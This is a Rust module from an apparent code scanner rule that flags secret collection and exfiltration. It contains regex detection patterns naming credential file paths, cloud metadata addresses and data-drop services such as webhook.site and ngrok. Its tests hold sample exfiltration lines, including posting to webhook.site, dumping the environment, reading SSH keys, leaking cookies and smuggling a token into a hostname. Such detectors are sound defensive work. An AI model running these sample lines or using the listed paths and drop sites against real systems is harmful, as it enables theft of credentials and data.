//! C4: what collects secrets or sends something to where things are dropped.

use std::sync::LazyLock;

use crate::case::Changed;
use crate::finding::{Findings, Severity};
use crate::patterns::{Pattern, Table, Where};
use crate::rules::RuleId;

static EXFILTRATION: LazyLock<Table> = LazyLock::new(|| {
    Table::new(
        RuleId::C4,
        Severity::Hold,
        false,
        &[
            Pattern {
                place: Where::Code,
                what: "the whole environment",
                pattern: r"\b(?:dict|str|repr|list|json\.dumps|dumps|print|vars|quote|urlencode)\s*\(\s*(?:\*\*)?os\.environ\b\s*(?:[,)]|\.(?:items|copy|values))|\bos\.environ\.(?:items|values|copy)\s*\(|\bos\.environ\b\s*[,;})\]]|=\s*os\.environ\s*$|\bstringify\s*\(\s*process\.env\b|\bObject\.(?:entries|keys|values|assign)\s*\([^\n]*process\.env\b\s*\)|\{\s*\.\.\.\s*process\.env\b|=\s*process\.env\s*;?\s*$|\b(?:std::)?env::vars(?:_os)?\s*\(|\bos\.Environ\s*\(|\bSystem\.getenv\s*\(\s*\)|\bENV\.(?:to_h|to_a|each|map|inspect)|\bgetenv\s*\(\s*\)|\$_ENV\b|\bEnvironment\.GetEnvironmentVariables\s*\(|/proc/(?:self|\d+|\$\$|\*)/(?:environ|mem|maps|cmdline)|(?:^|[;&|`(]\s*)(?:printenv|env)\s*(?:\||>|$)",
            },
            Pattern {
                place: Where::All,
                what: "a file of credentials",
                pattern: r"\.ssh/|\bid_(?:rsa|ed25519|ecdsa)\b|\.aws/(?:credentials|config)|\.netrc\b|\.git-credentials|\.docker/config\.json|\.kube/config|/etc/shadow|\.npmrc\b|\.pypirc\b|\.config/gh/hosts|\.gnupg/|Login Data\b|Local State\b|cookies\.sqlite|wallet\.dat|\.config/gcloud|169\.254\.169\.254|metadata\.google\.internal|/run/secrets|serviceaccount/token|\bkeychain\b[^\n]*(?:find|dump)|security find-generic-password|\bLocalStorage/leveldb",
            },
            Pattern {
                place: Where::Code,
                what: "a secret read from the environment",
                pattern: r"(?i:\b(?:os\.environ(?:\.get)?|(?:os\.)?getenv|environ(?:\.get)?|env::var(?:_os)?|(?:option_)?env!|LookupEnv|ENV(?:\.fetch)?|env|env\.get|(?:process|Bun|Deno|meta)\.env(?:\.get)?|get_env|fetch_env!?|Get\w*EnvironmentVariable)|\$_(?:ENV|SERVER))\s*[(\[]\s*[\x22\x27`](?:[A-Za-z0-9]+_)*(?:TOKEN|SECRET|KEY|APIKEY|PASSWORD|PASSWD|PASS|PWD|CREDENTIAL|AUTH|PAT|token|secret|key|password)S?(?:_[A-Za-z0-9]+)*[\x22\x27`]|\b(?:process|Bun|meta)\.env\.(?:[A-Z0-9]+_)*(?:TOKEN|SECRET|KEY|APIKEY|PASSWORD|PASSWD|PASS|PWD|CREDENTIAL|AUTH|PAT)S?(?:_[A-Z0-9]+)*\b|\$(?i:env:|\{?)(?:[A-Z0-9]+_)+(?:TOKEN|SECRET|KEY|APIKEY|PASSWORD|PASSWD|CREDENTIAL|PAT)S?(?:_[A-Z0-9]+)*\b",
            },
            Pattern {
                place: Where::Shipped,
                what: "a secret from the environment, sent or shown",
                pattern: r"(?i)(?:print|log\w*|console\.\w+|println!?|eprintln!|fmt\.Print\w*|requests\.\w+|fetch|axios\.\w+|send\w*|post|write\w*)\s*\(?[^\n]*(?:os\.environ|os\.getenv|process\.env|env::var|os\.Getenv|System\.getenv|ENV\[)[^\n]*(?:token|secret|key|passw|credential)",
            },
            Pattern {
                place: Where::Shipped,
                what: "a secret written to a log",
                pattern: r"(?i)\b(?:print|println!?|eprintln!|printf|console\.(?:log|info|warn|error|debug)|log(?:ger|ging)?\.\w+|(?:info|debug|warn|error|trace)!|fmt\.Print\w*|log\.Print\w*|puts|System\.out\.print\w*)\s*\(?[^\n]*(?:[{(,+.\s$]|\$\{|%\w.*,\s*)(?:\w+[._])*(?:passw(?:or)?d|secret(?:_?key)?|api_?key|private_?key|access_?token|auth_?token|auth_?header|credentials?|session_?id|ssn|credit_?card|card_?number|cvv)\b",
            },
            Pattern {
                place: Where::Only(&[
                    "js", "mjs", "cjs", "jsx", "ts", "mts", "cts", "tsx", "vue", "svelte", "html",
                    "svg", "htm",
                ]),
                what: "cookies or stored tokens",
                pattern: r"\bdocument\.cookie\b|\b(?:local|session)Storage\.getItem\s*\(\s*[\x22\x27][^\n]*(?:token|auth|jwt|session)|\bnavigator\.sendBeacon\s*\(|\bclipboard\.read|addEventListener\s*\(\s*[\x22\x27]key(?:down|press|up)",
            },
            Pattern {
                place: Where::All,
                what: "a place where things are dropped",
                pattern: r"(?i)discord(?:app)?\.com/api/webhooks|hooks\.slack\.com|webhook\.(?:site|cool)|requestbin|pipedream\.net|ngrok(?:-free)?\.(?:io|app|dev)|burpcollaborator|oastify\.com|\boast\.(?:pro|live|site|online|fun|me)|interact\.sh|api\.telegram\.org|pastebin\.com|transfer\.sh|\b0x0\.st|ix\.io|termbin\.com|file\.io|anonfiles|gofile\.io|bashupload|requestcatcher|beeceptor|canarytokens|dnslog|\.onion\b|trycloudflare\.com|serveo\.net|localhost\.run|workers\.dev|glitch\.me|hookb\.in|ipinfo\.io|api\.ipify\.org|ifconfig\.me",
            },
            Pattern {
                place: Where::Code,
                what: "an address put together from pieces",
                pattern: r"[\x22\x27`](?:https?|wss?|ftp)://[\x22\x27`]\s*(?:[+.,]|\|\|)|[\x22\x27`]https?:[\x22\x27`]\s*[+.]|[\x22\x27`](?:htt|h)[\x22\x27`]\s*\+\s*[\x22\x27`]|[\x22\x27`]hxxps?",
            },
            Pattern {
                place: Where::Code,
                what: "a raw connection or name look-up",
                pattern: r"\bsocket\.(?:socket|create_connection|gethostbyname|getaddrinfo)\s*\(|\bnet\.(?:Dial\w*|connect|createConnection|Socket)\s*\(|\bdns\.(?:resolve\w*|lookup)\s*\(|\bTcpStream::connect|\bUdpSocket::bind|\bnew\s+(?:Socket|WebSocket|XMLHttpRequest)\s*\(|\bInetAddress\.getByName|\bfsockopen\s*\(|\bTCPSocket\.(?:new|open)|\bparamiko\b|\bsmtplib\b|\bftplib\b|\btelnetlib\b",
            },
        ],
    )
});

pub(super) fn check(changed: &Changed<'_>, out: &mut Findings) {
    EXFILTRATION.check(changed, out);
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::content::held;

    #[test]
    fn patterns_compile() {
        assert_eq!(EXFILTRATION.broken(), Vec::<&str>::new());
    }

    #[test]
    fn c4_collecting_and_sending_is_held() {
        for (path, text) in [
            (
                "src/a.py",
                r"send(json.dumps(dict(os.environ)))
",
            ),
            (
                "src/a.js",
                r"fetch(u, {body: JSON.stringify(process.env)})
",
            ),
            (
                "src/a.rs",
                r"for (k, v) in std::env::vars() {}
",
            ),
            (
                "src/a.py",
                r#"open(os.path.expanduser("~/.ssh/id_rsa"))
"#,
            ),
            (
                "src/a.py",
                r#"requests.post("https://webhook.site/x", data=d)
"#,
            ),
            (
                "src/a.js",
                r#"const u = "https://" + h + "/x"
"#,
            ),
            (
                "src/a.go",
                r#"net.Dial("tcp", a)
"#,
            ),
            (
                "src/a.js",
                r"new Image().src = u + document.cookie
",
            ),
            (
                "src/a.py",
                r#"logger.info("login %s %s", user, password)
"#,
            ),
            (
                "src/a.js",
                r#"console.log("token", process.env.API_TOKEN)
"#,
            ),
            (
                "tests/a.rs",
                r#"let t = std::env::var("GITHUB_TOKEN").unwrap_or_default();
"#,
            ),
            (
                "src/a.go",
                r#"t := os.Getenv("AWS_SECRET_ACCESS_KEY")
"#,
            ),
            (
                "src/a.py",
                r#"t = os.environ.get("DB_PASSWORD")
"#,
            ),
            (
                "src/a.rb",
                r#"t = ENV.fetch("API_KEY")
"#,
            ),
            (
                "src/a.php",
                r#"$t = getenv('STRIPE_SECRET');
"#,
            ),
            (
                "src/A.java",
                r#"String t = System.getenv("NPM_TOKEN");
"#,
            ),
            (
                "src/a.sh",
                r#"host="$GITHUB_TOKEN.x.net"
"#,
            ),
        ] {
            assert!(held(RuleId::C4, path, text), "{path}: {text}");
        }
    }

    #[test]
    fn c4_ordinary_reads_and_logs_pass() {
        for (path, text) in [
            (
                "src/a.py",
                r#"level = os.environ.get("LOG_LEVEL", "info")
"#,
            ),
            (
                "src/a.js",
                r"const port = process.env.PORT || 3000
",
            ),
            (
                "src/a.rs",
                r#"let home = std::env::var("HOME");
"#,
            ),
            (
                "src/a.py",
                r#"layout = os.environ.get("KEYBOARD_LAYOUT", "us")
"#,
            ),
            (
                "src/a.rs",
                r#"let map = env("KEYMAP");
let name = tokens["x_token"];
"#,
            ),
            (
                "src/a.py",
                r#"print("password changed")
"#,
            ),
            (
                "src/a.py",
                r#"logger.info("user %s logged in", user)
"#,
            ),
            (
                "src/a.js",
                r#"log.info("retrying request")
"#,
            ),
        ] {
            assert!(!held(RuleId::C4, path, text), "{path}: {text}");
        }
    }
}
